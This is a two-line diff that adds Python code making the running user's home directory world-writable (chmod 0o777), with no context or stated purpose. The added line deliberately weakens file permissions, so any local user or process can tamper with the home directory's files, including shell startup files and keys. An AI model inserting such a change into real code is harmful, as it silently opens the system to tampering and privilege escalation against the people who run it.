@@ -1,0 +1,2 @@
+import os
+os.chmod(os.path.expanduser("~"), 0o777)
